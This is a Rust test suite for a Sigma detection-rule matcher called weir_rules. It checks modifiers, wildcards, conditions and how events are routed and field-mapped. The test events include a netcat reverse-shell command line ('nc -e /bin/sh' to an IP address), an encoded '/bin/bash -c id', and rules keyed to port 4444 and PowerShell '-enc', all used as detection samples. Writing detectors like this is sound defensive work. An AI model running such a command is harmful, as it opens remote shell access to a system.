//! Sigma matching semantics, one behaviour per test: modifiers, wildcards,
//! null/empty, keywords, conditions, routing and the Weir field mapping.

use serde_json::{json, Map, Value};
use weir_rules::{weir_fields, RuleErrorKind, RuleSet};

fn rule(detection: &str) -> RuleSet {
    rule_ls(detection, "    product: windows\n    category: process_creation")
}

fn rule_ls(detection: &str, logsource: &str) -> RuleSet {
    let text = format!("title: t\nid: r1\nlogsource:\n{logsource}\ndetection:\n{detection}\n");
    RuleSet::from_yaml(&text, "test.yml").unwrap_or_else(|e| panic!("{e}\n{text}"))
}

fn ev(v: Value) -> Map<String, Value> {
    v.as_object().unwrap().clone()
}

fn hit(set: &RuleSet, v: Value) -> bool {
    let mut m = set.matcher();
    let mut out = Vec::new();
    m.matches(&ev(v), &mut out);
    !out.is_empty()
}

#[test]
fn exact_match_is_case_insensitive_and_whole_value() {
    let s = rule("    sel:\n        Image: 'C:\\Windows\\cmd.exe'\n    condition: sel");
    assert!(hit(&s, json!({"Image": "c:\\windows\\CMD.EXE"})));
    assert!(!hit(&s, json!({"Image": "c:\\windows\\cmd.exe2"})));
    assert!(!hit(&s, json!({"Other": "c:\\windows\\cmd.exe"})));
}

#[test]
fn contains_startswith_endswith() {
    let s = rule("    a:\n        F|contains: mid\n    b:\n        G|startswith: pre\n    c:\n        H|endswith: suf\n    condition: a and b and c");
    assert!(hit(&s, json!({"F": "xxMIDxx", "G": "prefix", "H": "the suf"})));
    assert!(!hit(&s, json!({"F": "xxMIDxx", "G": "xprefix", "H": "the suf"})));
    assert!(!hit(&s, json!({"F": "xxMIDxx", "G": "prefix", "H": "suffix"})));
}

#[test]
fn wildcards_and_escapes() {
    let s = rule("    sel:\n        F: 'a*b?c'\n    condition: sel");
    assert!(hit(&s, json!({"F": "aXXXbYc"})));
    assert!(hit(&s, json!({"F": "abYc"})));
    assert!(!hit(&s, json!({"F": "abc"})));
    let s = rule("    sel:\n        F: 'a\\*b'\n    condition: sel");
    assert!(hit(&s, json!({"F": "a*b"})));
    assert!(!hit(&s, json!({"F": "aXb"})));
    let s = rule("    sel:\n        F: 'C:\\\\*'\n    condition: sel");
    assert!(hit(&s, json!({"F": "C:\\anything"})));
}

#[test]
fn lists_are_or_and_all_is_and() {
    let s = rule("    sel:\n        F|contains:\n            - one\n            - two\n    condition: sel");
    assert!(hit(&s, json!({"F": "xx two"})));
    let s = rule("    sel:\n        F|contains|all:\n            - one\n            - two\n    condition: sel");
    assert!(!hit(&s, json!({"F": "xx two"})));
    assert!(hit(&s, json!({"F": "two one"})));
}

#[test]
fn list_of_maps_is_or() {
    let s = rule("    sel:\n        - A: 1\n        - B: 2\n    condition: sel");
    assert!(hit(&s, json!({"B": 2})));
    assert!(hit(&s, json!({"A": "1"})));
    assert!(!hit(&s, json!({"A": 2})));
}

#[test]
fn null_and_empty() {
    let s = rule("    sel:\n        A: 'x'\n        B: null\n    condition: sel");
    assert!(hit(&s, json!({"A": "x"})));
    assert!(hit(&s, json!({"A": "x", "B": null})));
    assert!(!hit(&s, json!({"A": "x", "B": "y"})));
    let s = rule("    sel:\n        A: ''\n    condition: sel");
    assert!(hit(&s, json!({"A": ""})));
    assert!(!hit(&s, json!({"A": "y"})));
}

#[test]
fn regex_is_case_sensitive_unless_i() {
    let s = rule("    sel:\n        F|re: 'ab+c'\n    condition: sel");
    assert!(hit(&s, json!({"F": "xxabbbcxx"})));
    assert!(!hit(&s, json!({"F": "ABC"})));
    let s = rule("    sel:\n        F|re|i: 'ab+c'\n    condition: sel");
    assert!(hit(&s, json!({"F": "ABC"})));
}

#[test]
fn cased_modifier() {
    let s = rule("    sel:\n        F|cased|contains: Mixed\n    condition: sel");
    assert!(hit(&s, json!({"F": "a Mixed b"})));
    assert!(!hit(&s, json!({"F": "a mixed b"})));
}

#[test]
fn cidr() {
    let s = rule("    sel:\n        Ip|cidr:\n            - 10.0.0.0/8\n            - 'fd00::/8'\n    condition: sel");
    assert!(hit(&s, json!({"Ip": "10.1.2.3"})));
    assert!(hit(&s, json!({"Ip": "fd12::1"})));
    assert!(!hit(&s, json!({"Ip": "11.0.0.1"})));
    assert!(!hit(&s, json!({"Ip": "not an ip"})));
}

#[test]
fn base64_and_base64offset() {
    let s = rule("    sel:\n        F|base64|contains: 'secret'\n    condition: sel");
    assert!(hit(&s, json!({"F": "xx c2VjcmV0 yy"})));
    let s = rule("    sel:\n        F|base64offset|contains: '/bin/bash'\n    condition: sel");
    for prefix in ["", "a", "ab"] {
        let enc = base64_std(&format!("{prefix}/bin/bash -c id"));
        assert!(hit(&s, json!({ "F": enc })), "offset {}", prefix.len());
    }
    assert!(!hit(&s, json!({"F": base64_std("/bin/sh")})));
}

#[test]
fn utf16_wide_base64() {
    let s = rule("    sel:\n        F|wide|base64offset|contains: 'ping'\n    condition: sel");
    let utf16: Vec<u8> = "x ping y".encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
    assert!(hit(&s, json!({ "F": base64_bytes(&utf16) })));
}

#[test]
fn windash() {
    let s = rule("    sel:\n        F|contains|windash: ' -enc '\n    condition: sel");
    assert!(hit(&s, json!({"F": "powershell /enc abc"})));
    assert!(hit(&s, json!({"F": "powershell \u{2013}enc abc"})));
    assert!(hit(&s, json!({"F": "powershell -enc abc"})));
    assert!(!hit(&s, json!({"F": "powershell +enc abc"})));
}

#[test]
fn exists_neq_and_comparisons() {
    let s = rule("    sel:\n        A|exists: true\n        B|exists: false\n    condition: sel");
    assert!(hit(&s, json!({"A": 1})));
    assert!(!hit(&s, json!({"A": 1, "B": 2})));
    let s = rule("    sel:\n        A|neq: x\n    condition: sel");
    assert!(hit(&s, json!({"A": "y"})));
    assert!(!hit(&s, json!({"A": "X"})));
    assert!(!hit(&s, json!({"Z": "y"})));
    let s = rule("    sel:\n        N|gte: 10\n        M|lt: 5\n    condition: sel");
    assert!(hit(&s, json!({"N": 10, "M": "4"})));
    assert!(!hit(&s, json!({"N": 9, "M": 4})));
    assert!(!hit(&s, json!({"N": "ten", "M": 4})));
}

#[test]
fn fieldref() {
    let s = rule("    sel:\n        A|fieldref: B\n    condition: sel");
    assert!(hit(&s, json!({"A": "Same", "B": "same"})));
    assert!(!hit(&s, json!({"A": "one", "B": "two"})));
    assert!(!hit(&s, json!({"A": "one"})));
}

#[test]
fn keywords_search_every_value() {
    let s = rule("    keywords:\n        - 'evil'\n        - 'bad*thing'\n    condition: keywords");
    assert!(hit(&s, json!({"msg": "some EVIL here"})));
    assert!(hit(&s, json!({"nested": {"x": ["a bad big thing"]}})));
    assert!(!hit(&s, json!({"msg": "benign"})));
}

#[test]
fn conditions_of_them_and_patterns() {
    let det = "    sel_a:\n        A: 1\n    sel_b:\n        B: 1\n    filter:\n        C: 1\n";
    let s = rule(&format!("{det}    condition: all of sel_* and not filter"));
    assert!(hit(&s, json!({"A": 1, "B": 1})));
    assert!(!hit(&s, json!({"A": 1, "B": 1, "C": 1})));
    assert!(!hit(&s, json!({"A": 1})));
    let s = rule(&format!("{det}    condition: 1 of them"));
    assert!(hit(&s, json!({"C": 1})));
    let s = rule(&format!("{det}    condition: (sel_a or sel_b) and not (filter)"));
    assert!(hit(&s, json!({"B": 1})));
}

#[test]
fn list_values_match_any_element() {
    let s = rule("    sel:\n        Args: '-i'\n    condition: sel");
    assert!(hit(&s, json!({"Args": ["bash", "-i"]})));
}

#[test]
fn evtx_nested_events_are_flattened() {
    let s = rule("    sel:\n        EventID: 1\n        Image|endswith: '\\x.exe'\n    condition: sel");
    assert!(hit(
        &s,
        json!({"Event": {"System": {"EventID": 1}, "EventData": {"Image": "C:\\x.exe"}}})
    ));
}

#[test]
fn weir_events_are_routed_by_kind_and_mapped() {
    let s = rule_ls(
        "    sel:\n        Image|endswith: '/nc'\n        CommandLine|contains: ' -e '\n    condition: sel",
        "    product: linux\n    category: process_creation",
    );
    let exec = ev(
        json!({"event.kind": "exec", "process.executable": "/usr/bin/nc", "process.command_line": "nc -e /bin/sh 1.2.3.4 9"}),
    );
    let mut m = s.matcher();
    let mut out = Vec::new();
    m.matches(&weir_fields(&exec), &mut out);
    assert_eq!(out.len(), 1);
    // The same fields on a file event: routed away from process_creation rules.
    let file = ev(
        json!({"event.kind": "file", "process.executable": "/usr/bin/nc", "process.command_line": "nc -e /bin/sh 1.2.3.4 9"}),
    );
    m.matches(&weir_fields(&file), &mut out);
    assert!(out.is_empty());
}

#[test]
fn windows_rules_do_not_fire_on_weir_events() {
    // A rule made only of a negation would fire on anything if not routed.
    let s = rule("    filter:\n        Image|endswith: '\\explorer.exe'\n    condition: not filter");
    let exec = ev(json!({"event.kind": "exec", "process.executable": "/bin/true"}));
    let mut m = s.matcher();
    let mut out = Vec::new();
    m.matches(&weir_fields(&exec), &mut out);
    assert!(out.is_empty());
}

#[test]
fn unrouted_events_only_meet_rules_whose_fields_they_have() {
    let s = rule("    filter:\n        Image|endswith: '\\explorer.exe'\n    condition: not filter");
    assert!(!hit(&s, json!({"Unrelated": 1})));
    assert!(hit(&s, json!({"Image": "C:\\cmd.exe"})));
}

#[test]
fn network_initiated_is_derived_from_the_action() {
    let s = rule_ls(
        "    sel:\n        Initiated: 'true'\n        DestinationPort: 4444\n    condition: sel",
        "    product: linux\n    category: network_connection",
    );
    let mut m = s.matcher();
    let mut out = Vec::new();
    let c = ev(json!({"event.kind": "network", "event.action": "connect", "destination.port": 4444}));
    m.matches(&weir_fields(&c), &mut out);
    assert_eq!(out.len(), 1);
    let a = ev(json!({"event.kind": "network", "event.action": "accept", "destination.port": 4444}));
    m.matches(&weir_fields(&a), &mut out);
    assert!(out.is_empty());
}

#[test]
fn linux_rule_with_unproduced_field_is_unsupported_with_reason() {
    let s = rule_ls(
        "    sel:\n        OriginalFileName: x\n    condition: sel",
        "    product: linux\n    category: process_creation",
    );
    let r = &s.rules()[0];
    assert!(
        r.unsupported.as_deref().unwrap().contains("OriginalFileName"),
        "{:?}",
        r.unsupported
    );
    let s = rule_ls(
        "    sel:\n        type: EXECVE\n    condition: sel",
        "    product: linux\n    service: auditd",
    );
    assert!(s.rules()[0].unsupported.as_deref().unwrap().contains("auditd"));
}

#[test]
fn experimental_rules_run_in_shadow_mode() {
    let text = "title: t\nstatus: experimental\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n    s:\n        Image: x\n    condition: s\n";
    let s = RuleSet::from_yaml(text, "x.yml").unwrap();
    assert_eq!(s.rules()[0].mode, weir_rules::Mode::Shadow);
}

#[test]
fn errors_name_file_line_and_field() {
    let text =
        "title: t\nlogsource:\n    product: linux\ndetection:\n    sel:\n        Image|bogus: x\n    condition: sel\n";
    let e = RuleSet::from_yaml(text, "bad.yml").err().unwrap();
    assert!(matches!(e.kind, RuleErrorKind::UnknownModifier { .. }), "{e}");
    assert_eq!((e.location.file.as_str(), e.location.line), ("bad.yml", 6), "{e}");
    let text = "title: t\nlogsource:\n    product: linux\ndetection:\n    sel:\n        Image|re: '(unclosed'\n    condition: sel\n";
    let e = RuleSet::from_yaml(text, "bad.yml").err().unwrap();
    assert!(matches!(e.kind, RuleErrorKind::Regex { .. }), "{e}");
    assert_eq!(e.location.line, 6);
    let text = "title: t\ndetection:\n  sel: [a\n";
    let e = RuleSet::from_yaml(text, "bad.yml").err().unwrap();
    assert!(matches!(e.kind, RuleErrorKind::Yaml(_)), "{e}");
    assert!(e.location.line > 0, "{e}");
    let text = "title: t\ndetection:\n    sel:\n        A: 1\n    condition: sel and missing\n";
    let e = RuleSet::from_yaml(text, "bad.yml").err().unwrap();
    assert!(e.to_string().contains("missing"), "{e}");
}

fn base64_bytes(b: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n =
            (chunk[0] as u32) << 16 | (*chunk.get(1).unwrap_or(&0) as u32) << 8 | *chunk.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

fn base64_std(s: &str) -> String {
    base64_bytes(s.as_bytes())
}
